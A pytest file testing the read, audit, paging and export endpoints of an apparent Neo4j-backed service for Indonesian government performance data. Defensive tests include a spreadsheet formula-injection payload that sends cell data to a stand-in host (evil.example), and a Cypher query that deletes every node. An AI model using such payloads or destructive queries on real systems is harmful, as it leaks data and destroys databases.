"""The read endpoints against the real Neo4j with tests/data/mini: catalog, audit, elements, paging, exports."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from openpyxl import load_workbook
from test_service_support import AS_READER, MINI, NIP_JOKO, NIP_RINA, NIP_SITI, assert_error, make_app

from graph.catalog import CYPHER_DIR, load_catalog
from graph.importer import import_path

pytest_plugins = ("test_service_support",)  # the app, client and loaded fixtures

ORPHAN_KEYS = ["nip", "name", "position", "unit_id", "unit_name", "reason", "assigned_to"]
LEVERAGE_KEYS = ["id", "kind", "code", "name", "year", "unit_id", "unit_name", "budget", "reason", "contributes_to"]


def test_queries_lists_the_catalog_with_typed_parameters(client):
    body = client.get("/api/queries").get_json()
    assert body["ok"] is True
    names = [row["name"] for row in body["rows"]]
    assert names == sorted(query.name for query in load_catalog())
    assert {"orphaned_staff", "activities_without_leverage"} <= set(names)
    orphaned = next(row for row in body["rows"] if row["name"] == "orphaned_staff")
    assert orphaned["mode"] == "read" and orphaned["summary"]
    assert " ".join(orphaned["doc"].split()).startswith(orphaned["summary"])
    assert orphaned["parameters"] == [
        {
            "name": "unit",
            "type": "str",
            "optional": True,
            "doc": "Only staff of this unit or of any unit below it (PART_OF).",
        },
        {
            "name": "datasets",
            "type": "list",
            "optional": True,
            "doc": "Versions to read (dataset keys); absent: the latest of each Pemda (docs/versions.md).",
        },
    ]
    assert body["total"] == len(names) and body["offset"] == 0


def test_a_named_query_runs_with_parameters_from_the_query_string(client, loaded):
    body = client.get("/api/queries/activities_without_leverage?year=2026&unit=DINKES", headers=AS_READER).get_json()
    assert body["ok"] is True and body["columns"] == LEVERAGE_KEYS
    assert [(row["id"], row["reason"], row["budget"]) for row in body["rows"]] == [("SK-2", "unlinked", 75000000)]
    assert client.get("/api/queries/activities_without_leverage?year=2025").get_json()["rows"] == []


def test_named_query_parameter_problems_are_400_listing_each(client, loaded):
    body = assert_error(client.get("/api/queries/activities_without_leverage?year=next&colour=red&unit=X"), 400)
    assert "unknown parameter 'colour'" in body["errors"]
    assert "parameter 'year' must be an integer, not 'next'" in body["errors"]
    assert len(body["errors"]) == 2
    missing = assert_error(client.get("/api/queries/line_of_sight"), 400)
    assert missing["errors"] == ["parameter 'nip' is required"]
    assert "more than once" in assert_error(client.get("/api/queries/orphaned_staff?unit=A&unit=B"), 400)["error"]
    assert "out of range" in assert_error(client.get(f"/api/queries/achievement?year={2**70}"), 400)["error"]


def test_unknown_query_is_404(client):
    body = assert_error(client.get("/api/queries/no_such_query"), 404)
    assert "no_such_query" in body["error"]


def test_write_mode_queries_are_never_served(runner, tmp_path):
    tmp_path = shutil.copytree(CYPHER_DIR, tmp_path / "cypher")  # the service starts on a complete catalog only
    (tmp_path / "wipe.cypher").write_text(
        "// name: wipe\n// Deletes everything.\n// mode: write\nMATCH (n) DETACH DELETE n\n", encoding="utf-8"
    )
    import_path(MINI, runner)
    client = make_app(runner, CATALOG=load_catalog(tmp_path)).test_client()
    body = assert_error(client.get("/api/queries/wipe"), 403)
    assert "write" in body["error"]
    assert runner.read("MATCH (n) RETURN count(n) AS n")[0]["n"] > 0
    assert_error(client.post("/api/queries/wipe"), 405)
    assert "/api/queries/wipe" not in client.get("/api/openapi.json").get_json()["paths"]


def test_orphaned_staff_endpoint_has_the_named_query_rows(client, loaded):
    body = client.get("/api/audit/orphaned-staff", headers=AS_READER).get_json()
    assert body["columns"] == ORPHAN_KEYS
    assert [(row["nip"], row["reason"], row["assigned_to"]) for row in body["rows"]] == [
        (NIP_RINA, "dead_end", ["SK-2"]),
        (NIP_JOKO, "dead_end", ["RHK-DEAD"]),
    ]
    assert body["rows"] == client.get("/api/queries/orphaned_staff", headers=AS_READER).get_json()["rows"]
    assert client.get("/api/audit/orphaned-staff?unit=DINSOS&year=2026").get_json()["rows"] == []
    assert client.get("/api/audit/orphaned-staff?unit=DINKES").get_json()["total"] == 2


def test_activities_without_leverage_endpoint_has_the_named_query_rows(client, loaded):
    body = client.get("/api/audit/activities-without-leverage?year=2026").get_json()
    assert body["columns"] == LEVERAGE_KEYS
    assert [
        (row["id"], row["kind"], row["budget"], row["reason"], row["contributes_to"], row["unit_id"])
        for row in body["rows"]
    ] == [("SK-2", "subkegiatan", 75000000, "unlinked", [], "DINKES-YANKES")]
    assert client.get("/api/audit/activities-without-leverage?unit=DINSOS").get_json()["rows"] == []
    assert_error(client.get("/api/audit/activities-without-leverage?year=soon"), 400)
    assert_error(client.get("/api/audit/activities-without-leverage?color=1"), 400)


def test_audit_summary_counts_every_finding(client, loaded):
    body = client.get("/api/audit").get_json()
    # without a year: indicator figures of the latest reported year (2025), activities of the budget year (2026)
    assert (body["year"], body["figures_year"], body["budget_year"], body["unit"]) == (None, 2025, 2026, None)
    rows = {row["finding"]: row for row in body["rows"]}
    assert rows["orphaned_staff"]["count"] == 2
    assert rows["activities_without_leverage"]["count"] == 1
    assert rows["activities_without_leverage"]["budget"] == 75000000
    assert body["counts"]["orphaned_staff"] == 2
    assert rows["orphaned_staff"]["title"] == "ASN tanpa kontribusi ke outcome"
    assert client.get("/api/audit?unit=DINSOS").get_json()["counts"]["orphaned_staff"] == 0


def test_goal_detail(client, loaded):
    goal = client.get("/api/goals/S1", headers=AS_READER).get_json()["goal"]
    assert (goal["id"], goal["level"], goal["statement"]) == ("S1", "sasaran", "Menurunnya angka kesakitan")
    assert goal["unit"]["id"] == "PEMDA"
    [indicator] = goal["indicators"]
    assert (indicator["id"], indicator["polarity"], indicator["satuan"]) == ("I-S1", "negatif", "%")
    assert [(y["year"], y["target"], y["realisasi"]) for y in indicator["years"]] == [(2025, 10, 9), (2026, 9, None)]
    assert [item["id"] for item in goal["contributes_to"]] == ["T1"]
    assert {(item["id"], item["via"]) for item in goal["contributors"]} == {("S-DINKES", "S1"), ("S-DINSOS", "I-S1")}
    assert goal["assigned"] == []
    dinkes = client.get("/api/goals/S-DINKES", headers=AS_READER).get_json()["goal"]
    assert [person["nip"] for person in dinkes["assigned"]] == ["197001012000031001"]
    assert_error(client.get("/api/goals/NOPE"), 404)


def test_goal_achievement(client, loaded):
    body = client.get("/api/goals/SK-IMUN/achievement?year=2025").get_json()
    indicator = next(row for row in body["rows"] if row["id"] == "I-SK")
    assert indicator["capaian"] == 95.0 and indicator["target"] == 90 and indicator["realisasi"] == 85.5
    assert body["year"] == 2025 and body["goal"] == "SK-IMUN"
    s1 = client.get("/api/goals/S1/achievement?year=2025").get_json()["rows"]
    assert next(row for row in s1 if row["id"] == "I-S1")["capaian"] == 110.0  # negatif: (2*10-9)/10
    # by default the latest reported year: 2026 has a target and no realisasi yet
    assert client.get("/api/goals/S1/achievement").get_json()["year"] == 2025
    chosen = client.get("/api/goals/SK-IMUN/achievement?year=2025&scale=permendagri86").get_json()
    assert chosen["scale"] == "permendagri86"
    assert {(row["id"], row["band"], row["scale"]) for row in chosen["rows"] if row["capaian"] is not None} == {
        ("SK-IMUN", "sangat tinggi", "permendagri86"),
        ("I-SK", "sangat tinggi", "permendagri86"),
    }
    assert "permendagri86" in assert_error(client.get("/api/goals/S1/achievement?scale=nope"), 400)["error"]
    assert_error(client.get("/api/goals/NOPE/achievement?year=2025"), 404)
    assert_error(client.get("/api/goals/S1/achievement?year=x"), 400)


def test_unit_summary(client, loaded):
    unit = client.get("/api/units/DINKES").get_json()["unit"]
    assert (unit["name"], unit["kind"], unit["parent"]["id"]) == ("Dinas Kesehatan", "perangkat_daerah", "PEMDA")
    assert [sub["id"] for sub in unit["sub_units"]] == ["DINKES-YANKES"]
    assert (unit["goals"], unit["staff"], unit["activities"], unit["budget"]) == (5, 5, 4, 325000000)
    assert unit["findings"] == {"orphaned_staff": 2, "activities_without_leverage": 1, "budget_at_risk": 75000000}
    pemda = client.get("/api/units/PEMDA?year=2025").get_json()["unit"]
    assert pemda["parent"] is None and pemda["activities"] == 0 and pemda["budget"] == 0
    assert_error(client.get("/api/units/NOPE"), 404)


def test_line_of_sight_and_impact(client, loaded):
    rows = client.get(f"/api/staff/{NIP_SITI}/line-of-sight", headers=AS_READER).get_json()["rows"]
    assert {row["outcome_id"] for row in rows} == {"S-DINKES", "S1", "T1", "M1", "V1"}
    assert all(row["nip"] == NIP_SITI and row["assigned_id"] == "SP-YANKES" for row in rows)
    assert client.get(f"/api/staff/{NIP_JOKO}/line-of-sight").get_json()["rows"] == []
    assert_error(client.get("/api/staff/199999999999999999/line-of-sight"), 404)
    impact = client.get("/api/elements/SK-1/impact").get_json()["rows"]
    supports = {row["id"] for row in impact if row["direction"] == "supports"}
    assert {"SK-IMUN", "S-DINSOS", "V1"} <= supports
    assert_error(client.get("/api/elements/NOPE/impact"), 404)


def test_paging_is_validated_and_applied(client, loaded):
    everything = client.get("/api/queries/impact?id=SK-1").get_json()
    page = client.get("/api/queries/impact?id=SK-1&limit=2&offset=1").get_json()
    assert (page["limit"], page["offset"], page["total"]) == (2, 1, everything["total"])
    assert page["rows"] == everything["rows"][1:3]
    for bad in ("limit=0", "limit=1001", "limit=x", "offset=-1", "offset=1.5"):
        body = assert_error(client.get(f"/api/audit/orphaned-staff?{bad}"), 400)
        assert body["error"].startswith("invalid paging")
    assert client.get("/api/audit/orphaned-staff?limit=1000").status_code == 200
    small = make_app(loaded, PAGE_MAX=5).test_client()
    assert_error(small.get("/api/queries?limit=6"), 400)
    assert small.get("/api/queries").get_json()["limit"] == 5


@pytest.mark.parametrize(
    "url", ["/api/audit/orphaned-staff.csv", "/api/audit/orphaned-staff?format=csv", "/api/queries/orphaned_staff.csv"]
)
def test_csv_export(client, loaded, url):
    response = client.get(url, headers=AS_READER)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Content-Disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ORPHAN_KEYS
    assert [row[0] for row in rows[1:]] == [NIP_RINA, NIP_JOKO]


@pytest.mark.parametrize(
    "url",
    [
        "/api/audit/activities-without-leverage.xlsx",
        "/api/queries/activities_without_leverage.xlsx?year=2026",
        "/api/audit/activities-without-leverage?format=xlsx",
    ],
)
def test_xlsx_export(client, loaded, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == LEVERAGE_KEYS
    assert values[1][0] == "SK-2" and values[1][7] == 75000000


def test_every_list_endpoint_exports(client, loaded):
    for url in (
        "/api/queries.csv",
        "/api/audit.xlsx",
        "/api/goals/S1/achievement.csv?year=2025",
        f"/api/staff/{NIP_SITI}/line-of-sight.csv",
        "/api/elements/SK-1/impact.xlsx",
    ):
        assert client.get(url).status_code == 200, url


def test_unknown_or_contradictory_format_is_400(client, loaded):
    assert "unknown format 'pdf'" in assert_error(client.get("/api/audit/orphaned-staff?format=pdf"), 400)["error"]
    assert_error(client.get("/api/audit/orphaned-staff.pdf"), 400)
    assert_error(client.get("/api/queries/orphaned_staff.pdf"), 400)
    assert_error(client.get("/api/audit/orphaned-staff.csv?format=xlsx"), 400)


def test_exports_neutralise_formulas(runner, tmp_path):
    folder = tmp_path / "mini"
    shutil.copytree(MINI, folder)
    staff = (folder / "staff.csv").read_text(encoding="utf-8")
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
    staff = staff.replace("Joko Pratama", '"' + evil.replace('"', '""') + '"')
    (folder / "staff.csv").write_text(staff, encoding="utf-8")
    import_path(folder, runner)
    client = make_app(runner).test_client()
    rows = list(csv.reader(io.StringIO(client.get("/api/audit/orphaned-staff.csv").get_data(as_text=True))))
    assert ["'" + evil] == [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
    sheet = load_workbook(io.BytesIO(client.get("/api/audit/orphaned-staff.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + evil, "s")]
    assert client.get("/api/audit/orphaned-staff").get_json()["rows"][1]["name"] == evil  # JSON keeps the data
